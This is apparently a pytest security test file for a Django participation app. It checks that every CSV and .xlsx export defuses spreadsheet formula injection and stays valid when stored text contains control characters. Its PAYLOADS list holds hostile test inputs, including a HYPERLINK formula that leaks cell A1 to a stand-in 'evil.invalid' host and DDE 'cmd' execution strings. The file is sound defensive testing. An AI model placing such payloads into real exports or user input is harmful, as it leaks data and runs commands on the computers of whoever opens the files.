"""Formula injection: every export of the product, scanned cell by cell.

A resident may write a comment starting with `=`, `+`, `-` or `@`; an indicator's source or
note may start so too. In a spreadsheet such a cell must never be a formula: in CSV no text
cell starts with one of those characters (defusedcsv puts an apostrophe before it), in
.xlsx no cell is a formula and every text cell that starts with one is a string cell with
Excel's quote prefix.

The export URLs are found by walking the URL patterns (every name ending in "export"): a
new export view fails here until it is scanned.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import reverse
from django.utils import translation
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from participation.models import Comment
from tests.indicators.factories import IndicatorFactory, measure
from tests.participation.factories import make_comments, make_round
from tests.security.test_permission_matrix import walk

pytestmark = pytest.mark.django_db

DANGEROUS = ("=", "+", "-", "@")
NUMBER = re.compile(r"^-?[0-9]+([,.][0-9]+)?$")
PAYLOADS = [
    '=HYPERLINK("http://evil.invalid/?leak="&A1;"Klikkaa")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]

# Every export URL name -> the requests that fetch it (format, query).
EXPORTS = {
    "participation:export": [
        ("csv", {}),
        ("csv", {"public": "1"}),
        ("xlsx", {}),
        ("xlsx", {"public": "1"}),
    ],
    "indicators:export": [(None, {})],
    "participation:themes_export": [(None, {}), (None, {"public": "1"})],
    "participation:public_opinion_export": [("csv", {}), ("xlsx", {})],
}


def test_every_export_view_is_scanned():
    with translation.override("fi"):
        names = {e.key for e in walk() if e.name and e.name.endswith("export")}
    assert names == set(EXPORTS), (
        f"Export URLs not scanned for formula injection: {sorted(names - set(EXPORTS))}"
    )


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def unsafe_csv_cells(content: bytes) -> list[str]:
    return [
        cell
        for cell in csv_cells(content)
        if cell.startswith(DANGEROUS) and not NUMBER.match(cell.strip())
    ]


def unsafe_xlsx_cells(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{sheet.title}!{cell.coordinate}: formula {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(DANGEROUS):
                    if cell.data_type != "s" or not cell.quotePrefix:
                        found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found


@pytest.fixture
def hostile(project):
    """A round with comments whose every text field starts like a formula, and an
    indicator whose name, source and note do."""
    round = make_round(project)
    for i, payload in enumerate(PAYLOADS):
        make_comments(
            round,
            1,
            text=payload,
            name=payload[:100],
            show_name=True,
            email="c@example.invalid",
            status=Comment.Status.PUBLISHED,
            disposition="accepted",
            reason_fi=PAYLOADS[(i + 1) % len(PAYLOADS)],
            reason_sv=PAYLOADS[(i + 1) % len(PAYLOADS)],
        )
    indicator = IndicatorFactory(
        project=project, name="=Mittari", name_fi="=Mittari", name_sv="@Mätare"
    )
    measure(indicator, "2026", "-1.5", source="+lähde", note="@huomautus")
    measure(indicator, "2027", "2", source="=1+1", note="-muistiinpano")
    from participation.text.services import analyse_round

    analyse_round(round=round)  # the themes export quotes representative responses
    round.opinion = _hostile_opinion_round(project)
    return round


def _hostile_opinion_round(project):
    """An opinion round whose accepted statements start like formulas, each voted on."""
    from participation.models import OpinionStatement
    from participation.opinion import services as opinion_services
    from tests.participation.test_opinion import make_round

    opinion = make_round(project, statements=len(PAYLOADS))
    statements = OpinionStatement.objects.filter(round=opinion).order_by("pk")
    for payload, statement in zip(PAYLOADS, statements, strict=True):
        OpinionStatement.objects.filter(pk=statement.pk).update(text_fi=payload, text_sv=payload)
        opinion_services.vote(
            round=opinion, statement_id=statement.pk, participant="a" * 32, choice=1
        )
    opinion.refresh_from_db()
    return opinion


def fetch(client, project, round, name, fmt, query):
    kwargs = {"region": project.region.slug, "project": project.pk}
    if name == "participation:export":
        kwargs.update(round=round.pk, fmt=fmt)
    elif name == "participation:themes_export":
        kwargs.update(round=round.pk)
    elif name == "participation:public_opinion_export":
        kwargs = {"region": project.region.slug, "opinion": round.opinion.pk, "fmt": fmt}
    response = client.get(reverse(name, kwargs=kwargs), query)
    assert response.status_code == 200, (name, fmt, query, response.status_code)
    return response


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_export_has_a_live_formula(login, users, project, hostile, name):
    client = login(users["preparer"])
    for fmt, query in EXPORTS[name]:
        content = fetch(client, project, hostile, name, fmt, query).content
        if content.startswith(b"PK"):
            unsafe = unsafe_xlsx_cells(content)
            assert unsafe == [], (name, fmt, query, unsafe)
            sheet = load_workbook(io.BytesIO(content)).worksheets[0]
            texts = {c.value for row in sheet.iter_rows() for c in row}
            assert PAYLOADS[0] in texts  # shown as typed, not mangled
        else:
            cells = csv_cells(content)
            assert unsafe_csv_cells(content) == [], (name, fmt, query)
            # the text is still there, after the apostrophe; a negative number stays a number
            if name == "participation:export":
                assert "'" + PAYLOADS[2] in cells
            elif name == "participation:themes_export":
                assert any(PAYLOADS[1] in cell for cell in cells)  # quoted as written
            elif name == "participation:public_opinion_export":
                assert "'" + PAYLOADS[0] in cells
            else:
                assert "'=Mittari" in cells and "-1,5" in cells and "'+lähde" in cells


# -- issue 24: any stored text gives a valid file (one writer, phases.spreadsheet) --------

FORBIDDEN_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def test_both_xlsx_exports_open_after_comments_with_esc_and_uffff(login, users, project):
    """The bug: one anonymous comment with ESC (U+001B) made both xlsx exports of its round
    answer 500, one with U+FFFF made them corrupt. Text stored before the input cleaning
    (or by any other path) is cleaned by the writer."""
    round = make_round(project)
    published = {"status": Comment.Status.PUBLISHED, "show_name": False}
    make_comments(round, 1, text="Hyvä\x1b[31m luonnos", reason_fi="Kiitos\x1b!", **published)
    make_comments(round, 1, text="Jonot\uffff pitkiä", name="Nimi\ufffe", **published)
    make_comments(round, 1, text="=1+1\x07", disposition="accepted", **published)
    client = login(users["preparer"])
    for query in ({}, {"public": "1"}):
        content = fetch(client, project, round, "participation:export", "xlsx", query).content
        workbook = load_workbook(io.BytesIO(content))  # opens: valid XML, a valid package
        texts = {
            cell.value
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str)
        }
        assert {"Hyvä[31m luonnos", "Jonot pitkiä", "=1+1"} <= texts
        assert not [t for t in texts if FORBIDDEN_IN_XML.search(t)]
        assert unsafe_xlsx_cells(content) == []
        content = fetch(client, project, round, "participation:export", "csv", query).content
        cells = csv_cells(content)
        assert "Hyvä[31m luonnos" in cells and "'=1+1" in cells
        assert not [c for c in cells if FORBIDDEN_IN_XML.search(c)]


def test_the_one_writer_defuses_every_formula_start_in_both_formats():
    from phases import spreadsheet

    texts = [start + "cmd|' /C calc'!A0" for start in spreadsheet.FORMULA_STARTS]
    cells = csv_cells(spreadsheet.csv_text([[*texts, "-12,5", -3]]).encode("utf-8"))
    assert all(cell.startswith("'") for cell in cells[: len(texts)]), cells
    assert cells[len(texts) :] == ["-12,5", "-3"]  # numbers stay numbers
    assert [spreadsheet.undefuse(c.replace("\\|", "|")) for c in cells[: len(texts)]] == texts
    workbook = spreadsheet.new_workbook("Taulu")
    spreadsheet.append_row(workbook.active, texts)
    sheet = load_workbook(io.BytesIO(spreadsheet.workbook_bytes(workbook))).active
    for cell in sheet[1]:
        assert cell.data_type == "s" and cell.quotePrefix, cell.value


ANY_TEXT = st.text(st.characters(codec=None, exclude_categories=()), max_size=200)


@settings(max_examples=150, deadline=None)
@given(st.lists(ANY_TEXT, min_size=1, max_size=4), ANY_TEXT)
def test_any_text_goes_through_the_writer_into_a_valid_file(texts, title):
    from phases import spreadsheet
    from phases.text_hygiene import clean_text

    workbook = spreadsheet.new_workbook(title)
    spreadsheet.append_row(workbook.active, texts, bold=True)
    spreadsheet.append_row(spreadsheet.add_sheet(workbook, title), [*texts, 1, None])
    sheet = load_workbook(io.BytesIO(spreadsheet.workbook_bytes(workbook))).worksheets[0]
    read = ["" if c.value is None else c.value for c in sheet[1]][: len(texts)]
    read += [""] * (len(texts) - len(read))
    expected = [clean_text(t).replace("\r\n", "\n").replace("\r", "\n") for t in texts]
    assert [r.replace("\r\n", "\n").replace("\r", "\n") for r in read] == expected

    data = spreadsheet.csv_text([texts, [1, None]]).encode("utf-8")  # encodes: no surrogate
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    for cell, text in zip(rows[0], texts, strict=True):
        clean = clean_text(text)
        if clean.startswith(spreadsheet.FORMULA_STARTS) and cell != clean:
            assert cell.startswith("'")
        else:
            assert cell == clean
